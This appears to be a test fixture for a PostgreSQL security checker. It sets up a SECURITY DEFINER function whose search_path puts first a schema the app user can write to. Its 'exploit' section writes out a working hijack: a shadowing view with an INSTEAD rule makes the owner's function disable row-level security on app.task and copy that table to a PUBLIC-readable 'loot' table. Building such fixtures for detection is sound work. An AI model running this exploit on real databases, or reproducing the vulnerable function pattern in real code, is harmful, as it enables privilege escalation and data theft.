-- A function that runs as its owner looks for names in a schema where the service may create them.
-- object: app.archive_old(integer)
-- object: schema:ext
-- base: hasura
--- setup
CREATE SCHEMA ext; GRANT USAGE ON SCHEMA ext TO {app_user};
CREATE FUNCTION app.archive_old(days integer) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = ext, app, pg_temp AS $$
BEGIN UPDATE project SET archived = true WHERE name = '-'; END $$;
CREATE FUNCTION app.noop() RETURNS integer LANGUAGE sql AS 'SELECT 1';
--- leak
GRANT CREATE ON SCHEMA ext TO {app_user};
--- exploit
CREATE FUNCTION ext.takeover() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN EXECUTE 'ALTER TABLE app.task NO FORCE ROW LEVEL SECURITY'; EXECUTE 'CREATE TABLE IF NOT EXISTS ext.loot AS SELECT * FROM app.task'; EXECUTE 'GRANT SELECT ON ext.loot TO PUBLIC'; RETURN true; END $$;
GRANT EXECUTE ON FUNCTION ext.takeover() TO PUBLIC;
CREATE VIEW ext.project AS SELECT 1 AS id, false AS archived, '-'::text AS name;
CREATE RULE r AS ON UPDATE TO ext.project DO INSTEAD SELECT ext.takeover();
GRANT ALL ON ext.project TO PUBLIC;
SELECT app.archive_old(1);
